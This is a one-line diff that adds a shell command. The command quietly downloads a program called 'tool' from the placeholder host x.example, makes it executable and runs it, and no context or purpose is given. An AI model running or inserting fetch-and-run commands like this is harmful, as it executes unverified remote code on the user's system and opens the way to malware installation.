@@ -1,0 +1,1 @@
+curl -sLO https://x.example/tool && chmod +x tool && ./tool
